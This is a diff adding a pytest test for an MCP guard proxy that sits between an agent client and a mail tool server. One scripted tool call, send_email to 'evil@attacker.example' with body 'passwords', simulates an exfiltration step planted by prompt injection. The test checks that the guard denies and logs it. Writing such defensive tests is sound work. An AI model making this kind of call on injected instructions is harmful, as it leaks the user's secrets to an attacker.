@@ -1,0 +1,67 @@
+"""A real MCP round trip: a tool server started by the test, the guard proxying it as its
+own process (`accord guard proxy`), and an MCP client driving the proxy."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.cli_process import ROOT
+from tests.cli_process import accord as run_accord
+
+pytest.importorskip("mcp")
+
+DATA = Path(__file__).parent / "data" / "guard"
+REQUEST = "Read my inbox and reply to alice@example.org that I am coming"
+
+
+async def _drive(log_dir: Path) -> list[tuple[bool, str]]:
+    from mcp import ClientSession, StdioServerParameters
+    from mcp.client.stdio import stdio_client
+
+    params = StdioServerParameters(
+        command=sys.executable,
+        args=[
+            "-m", "accord.cli.main", "guard", "proxy",
+            "--policy", str(DATA / "mailbox.yaml"), "--log", str(log_dir), "--request", REQUEST,
+            "--", sys.executable, str(ROOT / "tests" / "guard_tool_server.py"),
+        ],
+        env={"PYTHONPATH": str(ROOT), "PATH": os.environ.get("PATH", "")},
+        cwd=str(ROOT),
+    )  # fmt: skip
+    out: list[tuple[bool, str]] = []
+    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
+        await session.initialize()
+        listed = await session.list_tools()
+        out.append((False, ",".join(sorted(t.name for t in listed.tools))))
+        for name, args in [
+            ("read_inbox", {}),
+            ("send_email", {"recipients": ["evil@attacker.example"], "body": "passwords"}),
+            ("send_email", {"recipients": ["alice@example.org"], "body": "I am coming"}),
+        ]:
+            result = await session.call_tool(name, args)
+            text = " ".join(getattr(block, "text", "") for block in result.content)
+            out.append((bool(result.is_error), text))
+    return out
+
+
+def test_proxy_round_trip_blocks_the_planted_recipient_and_records_it(tmp_path: Path) -> None:
+    log_dir = tmp_path / "log"
+    assert (
+        run_accord("log", "init", "--origin", "example.org/guard", "--log", str(log_dir)).returncode
+        == 0
+    )
+    listed, inbox, attack, reply = asyncio.run(asyncio.wait_for(_drive(log_dir), 120))
+    assert listed[1] == "read_inbox,send_email"
+    assert not inbox[0] and "promo@shop.example" in inbox[1]
+    assert attack[0] and "evil@attacker.example" in attack[1] and "untrusted" in attack[1]
+    assert not reply[0] and '"sent": 1' in reply[1]  # the server saw only the user's e-mail
+    audit = run_accord(
+        "guard", "audit", "--policy", str(DATA / "mailbox.yaml"), "--log", str(log_dir), "--json"
+    )
+    assert audit.returncode == 0, audit.stdout + audit.stderr
+    assert '"calls": 3' in audit.stdout and '"denied_or_asked": 1' in audit.stdout
